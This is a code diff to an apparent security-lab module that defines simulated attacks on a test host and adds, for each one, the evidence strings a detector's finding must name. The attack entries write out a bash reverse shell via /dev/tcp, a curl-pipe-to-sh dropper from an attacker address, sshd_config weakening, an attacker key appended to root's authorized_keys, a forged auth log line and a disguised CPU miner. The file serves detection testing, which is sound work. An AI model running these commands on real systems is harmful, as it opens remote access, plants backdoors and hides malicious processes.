@@ -34,27 +34,37 @@ class Attack:
     """Shell run inside the host; {attacker} is the attacker namespace's address, {python} the interpreter."""
     lasting: bool
     """True: the script keeps running until the attack is stopped."""
+    evidence: tuple[str, ...] = ()
+    """What a finding about this attack names (any one, in its subject, explanation or details; any case): a
+    finding on the attacked host in the attack's window that names none of them is not credited to it."""
 
 
 ATTACKS: dict[str, Attack] = {a.name: a for a in [
     Attack("cryptominer", "a CPU burner copied to /tmp and started from there",
            "mkdir -p /tmp/.cache && cp /usr/bin/sha256sum /tmp/.cache/kworkerds && "
-           "exec nice -n 19 /tmp/.cache/kworkerds /dev/zero", True),
+           "exec nice -n 19 /tmp/.cache/kworkerds /dev/zero", True, ("kworkerds", "cpu_pct")),
     Attack("reverse_shell", f"bash -i connected to a listener in the attacker namespace (:{REVERSE_SHELL_PORT})",
-           f"exec /bin/bash -c 'exec /bin/bash -i >/dev/tcp/{{attacker}}/{REVERSE_SHELL_PORT} 0>&1 2>&1'", True),
+           f"exec /bin/bash -c 'exec /bin/bash -i >/dev/tcp/{{attacker}}/{REVERSE_SHELL_PORT} 0>&1 2>&1'", True,
+           ("bash -i", f"/{REVERSE_SHELL_PORT}", f":{REVERSE_SHELL_PORT}")),
     Attack("backdoor_port", f"a new listening socket on :{LISTENER_PORT}",
-           f"exec {{python}} -m herdwatch.lab.workloads.holder {LISTENER_PORT}", True),
+           f"exec {{python}} -m herdwatch.lab.workloads.holder {LISTENER_PORT}", True,
+           (str(LISTENER_PORT),)),
     Attack("sshd_tamper", "sshd_config weakened: root login and passwords allowed",
-           "sed -i '1i PermitRootLogin yes\\nPasswordAuthentication yes' /etc/ssh/sshd_config", False),
+           "sed -i '1i PermitRootLogin yes\\nPasswordAuthentication yes' /etc/ssh/sshd_config", False,
+           ("sshd", "ssh-")),
     Attack("authorized_key", "an attacker's key appended to root's authorized_keys",
-           f"echo '{ATTACKER_KEY}' >> /root/.ssh/authorized_keys", False),
+           f"echo '{ATTACKER_KEY}' >> /root/.ssh/authorized_keys", False,
+           ("authorized_keys",)),
     Attack("unusual_login", f"a password login as root from {UNUSUAL_SOURCE} (auth log line)",
            "echo \"$(date '+%b %d %H:%M:%S') $(hostname) sshd[4242]: Accepted password for root from "
-           f"{UNUSUAL_SOURCE} port 40022 ssh2\" >> /var/log/auth.log", False),
+           f"{UNUSUAL_SOURCE} port 40022 ssh2\" >> /var/log/auth.log", False,
+           (UNUSUAL_SOURCE.rsplit(".", 1)[0] + ".",)),
     Attack("dropper", "curl | sh: a script that lives ~200 ms and leaves /tmp/.lab-dropped",
-           f"curl -fsS --max-time 3 http://{{attacker}}:{PAYLOAD_PORT}/update.sh | sh", False),
+           f"curl -fsS --max-time 3 http://{{attacker}}:{PAYLOAD_PORT}/update.sh | sh", False,
+           ("update.sh", "lab-dropped", f"/{PAYLOAD_PORT}", f":{PAYLOAD_PORT}")),
     Attack("container_hog", "a container-style CPU hog (its own PID namespace) in the host",
-           "exec unshare --pid --fork --mount-proc nice -n 19 /usr/bin/md5sum /dev/zero", True),
+           "exec unshare --pid --fork --mount-proc nice -n 19 /usr/bin/md5sum /dev/zero", True,
+           ("md5sum", "cpu_pct")),
 ]}
 
 
